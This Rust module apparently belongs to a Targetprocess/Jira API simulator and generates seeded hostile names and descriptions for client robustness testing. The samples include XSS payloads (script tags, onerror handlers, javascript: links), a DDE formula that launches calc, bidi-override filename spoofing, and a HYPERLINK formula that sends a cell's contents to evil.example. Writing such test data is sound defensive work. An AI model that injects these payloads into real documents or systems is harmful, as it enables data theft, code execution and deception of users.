//! Hostile data: names and descriptions that Targetprocess and Jira users could type and that
//! try to break a client — line breaks, control characters, bidi overrides, zero-width
//! characters, git conflict-marker lines, values past the inbound length bounds, deeply nested
//! HTML, script and event-handler markup, `javascript:` and `data:` links, spreadsheet formula
//! prefixes, markdown-significant text, very long lines, emoji and combining characters.
//!
//! Every value is picked by a number ([`name`], [`description`]), so a seed replays the same
//! values; [`apply`] rewrites a seeded data set with them (`DataSource::Hostile`). What a client
//! must make of them is its business: the simulator stores and serves them as they are.

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::Value;

use crate::schema::Schema;
use crate::store::World;

/// How many distinct hostile names [`name`] picks from (picks wrap around).
pub const NAME_COUNT: u64 = NAMES.len() as u64 + LONG_NAMES;
/// How many distinct hostile descriptions [`description`] picks from (picks wrap around).
pub const DESCRIPTION_COUNT: u64 = DESCRIPTIONS.len() as u64 + LONG_DESCRIPTIONS;

/// Single-line pieces, put before, after or instead of a plain name.
const NAMES: [&str; 34] = [
    "Line one\nline two",
    "Carriage\rreturn\r\n",
    "Nul\u{0}byte",
    "Escape \u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7}",
    "Bell\u{7}\u{7}",
    "Tab\tand\u{b}vertical\u{c}feed",
    "Delete\u{7f} next-line\u{85} separator\u{2028}paragraph\u{2029}",
    "Invoice \u{202e}fdp.exe\u{202c}",
    "Isolated \u{2066}left\u{2069} \u{2067}right\u{2069} \u{2068}first\u{2069}",
    "Embedded \u{202a}ltr\u{202c} \u{202b}rtl\u{202c} \u{202d}override\u{202c}",
    "Zero\u{200b}width\u{200c}non\u{200d}joiner\u{feff}bom\u{2060}",
    "<<<<<<< ours",
    "=======",
    ">>>>>>> theirs",
    "||||||| base",
    "<<<<<<< HEAD\n=======\n>>>>>>> tp",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "# Not a heading",
    "## Objective: tp:1",
    "- [ ] not a task",
    "| a | b |\n|---|---|",
    "`code` and ``` fence",
    "**bold** _it_ ~~gone~~ \\ backslash",
    "tp:1 new:forged id:",
    "Rocket \u{1f680} family \u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467} flag \u{1f1f8}\u{1f1ea}",
    "Zalgo z\u{336}\u{337}a\u{338}\u{35c}l\u{34f}g\u{360}o e\u{301}\u{301}\u{301}",
    "\u{0}\u{1b}\u{7}",
];
/// Names built at their length: past the name bound, and a very long line.
const LONG_NAMES: u64 = 2;

/// Descriptions (HTML, as Targetprocess stores them).
const DESCRIPTIONS: [&str; 16] = [
    "<p>First line\nsecond line\r\nthird\u{0}\u{1b}[2J\u{7}</p>",
    "<script>alert(document.cookie)</script><p>after the script</p>",
    "<p><img src=x onerror=alert(1)>image</p><iframe src=\"https://evil.example\"></iframe>",
    "<p><a href=\"javascript:alert(1)\">click</a> <a href=\"data:text/html,<script>x</script>\">data</a> <a href=\" JaVaScRiPt:alert(2)\">spaced</a></p>",
    "<<<<<<< ours\nmine\n=======\ntheirs\n>>>>>>> theirs",
    "<p>&lt;&lt;&lt;&lt;&lt;&lt;&lt; ours</p><p>=======</p><p>&gt;&gt;&gt;&gt;&gt;&gt;&gt; theirs</p>",
    "<p># Heading?</p><p>- [ ] task?</p><p>| a | b |</p><p>```</p><p>**bold**</p>",
    "# Heading\n## Objective: tp:1\n- [x] done\n| a | b |\n```\nfence",
    "<p>=HYPERLINK(\"http://evil.example\",\"x\")</p><p>+1</p><p>-1</p><p>@A1</p>",
    "<p>Invoice \u{202e}fdp.exe\u{202c} and \u{2066}isolate\u{2069}, zero\u{200b}width</p>",
    "<p>Rocket \u{1f680} z\u{336}a\u{338}l\u{34f}g\u{360}o e\u{301}</p>",
    "<style>p{display:none}</style><p style=\"x\" onclick=\"alert(1)\">styled</p>",
    "<ul><li><ul><li><ul><li><ol><li>nested <b><i><u>marks</u></i></b></li></ol></li></ul></li></ul></li></ul>",
    "<table><tr><td>|cell|</td><td>`x`</td></tr></table>",
    "<p>\\*escaped\\* \\<tag\\> &amp;amp; &#0; &#x1b; &#xd800;</p>",
    "",
];
/// Descriptions built at their size: nested thousands deep, past the text bound, one long line.
const LONG_DESCRIPTIONS: u64 = 3;

/// A hostile single-line value built around `plain` (a name the data would have had): the
/// piece `pick` selects before it, after it or instead of it.
pub fn name(pick: u64, plain: &str) -> String {
    let index = pick % NAME_COUNT;
    let piece = match usize::try_from(index).ok().and_then(|i| NAMES.get(i)) {
        Some(piece) => (*piece).to_owned(),
        None if index == NAMES.len() as u64 => "W".repeat(700),
        None => format!("{} end", "long line ".repeat(3_000)),
    };
    match (pick / NAME_COUNT) % 3 {
        0 => format!("{piece} {plain}"),
        1 => format!("{plain} {piece}"),
        _ => piece,
    }
}

/// A hostile description (HTML) by number.
pub fn description(pick: u64) -> String {
    let index = pick % DESCRIPTION_COUNT;
    if let Some(d) = usize::try_from(index)
        .ok()
        .and_then(|i| DESCRIPTIONS.get(i))
    {
        return (*d).to_owned();
    }
    match index - DESCRIPTIONS.len() as u64 {
        0 => format!("{}deep{}", "<div>".repeat(3_000), "</div>".repeat(3_000)),
        1 => format!("<p>{}</p>", "Huge text. ".repeat(10_000)),
        _ => format!("<p>{}</p>", "x".repeat(50_000)),
    }
}

/// Which values [`apply`] makes hostile: each name and description with a chance of one in two.
const SHARE: f64 = 0.5;

/// Rewrites a data set with hostile values, deterministically from `seed`: names of ARTs,
/// releases, teams, team and program objectives and features, users' full names (logins stay:
/// they are credentials), descriptions of work items and ARTs, and Jira summaries. Ids,
/// references and every other field are kept.
pub(crate) fn apply(world: &mut World, schema: &Schema, seed: u64) {
    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ 0x4057_11e0);
    let types = [
        "AgileReleaseTrain".to_owned(),
        "Release".to_owned(),
        "Team".to_owned(),
        schema.team_objective_type(),
        schema.program_objective_type(),
        "Feature".to_owned(),
        "Epic".to_owned(),
    ];
    world.tp.touched();
    for ty in &types {
        let Some(entities) = world.tp.entities.get_mut(ty) else {
            continue;
        };
        for fields in entities.values_mut() {
            if rng.random_bool(SHARE) {
                rewrite_name(fields, "Name", &mut rng);
            }
            if fields.contains_key("Description") && rng.random_bool(SHARE) {
                let pick = rng.random_range(0..DESCRIPTION_COUNT);
                fields.insert("Description".into(), Value::String(description(pick)));
            }
        }
    }
    if let Some(users) = world.tp.entities.get_mut("User") {
        for fields in users.values_mut() {
            let admin =
                fields.get("Login").and_then(Value::as_str) == Some(crate::data::ADMIN_LOGIN);
            if !admin && rng.random_bool(SHARE) {
                user_name(fields, &mut rng);
            }
        }
    }
    for issue in world.jira.issues.values_mut() {
        if rng.random_bool(SHARE) {
            issue.summary = name(rng.random_range(0..NAME_COUNT * 3), &issue.summary);
        }
    }
}

fn rewrite_name(fields: &mut crate::store::Fields, key: &str, rng: &mut ChaCha8Rng) {
    let plain = fields
        .get(key)
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_owned();
    let value = name(rng.random_range(0..NAME_COUNT * 3), &plain);
    fields.insert(key.into(), Value::String(value));
}

/// A user's full name with a hostile piece after the plain one, so that users stay told apart
/// by their names even where a bound cuts the piece.
fn user_name(fields: &mut crate::store::Fields, rng: &mut ChaCha8Rng) {
    let plain = fields
        .get("FullName")
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_owned();
    let pick = rng.random_range(0..NAME_COUNT) + NAME_COUNT;
    fields.insert("FullName".into(), Value::String(name(pick, &plain)));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pick_is_a_value_and_picks_wrap_around() {
        for pick in 0..NAME_COUNT * 3 {
            let n = name(pick, "Plain");
            assert!(!n.is_empty());
            assert_eq!(n, name(pick + NAME_COUNT * 3, "Plain"));
        }
        assert!(name(NAMES.len() as u64, "P").chars().count() > 600);
        for pick in 0..DESCRIPTION_COUNT {
            assert_eq!(description(pick), description(pick + DESCRIPTION_COUNT));
        }
        let deep = description(DESCRIPTIONS.len() as u64);
        assert_eq!(deep.matches("<div>").count(), 3_000);
        assert!(description(DESCRIPTIONS.len() as u64 + 1).chars().count() > 100_000);
    }

    #[test]
    fn a_user_name_keeps_the_plain_name_first() {
        let mut fields = crate::store::Fields::new();
        fields.insert("FullName".into(), Value::String("Mira Quell".into()));
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        for _ in 0..50 {
            user_name(&mut fields, &mut rng);
            let full = fields["FullName"].as_str().unwrap_or_default();
            assert!(full.starts_with("Mira Quell "), "{full:?}");
            fields.insert("FullName".into(), Value::String("Mira Quell".into()));
        }
    }
}
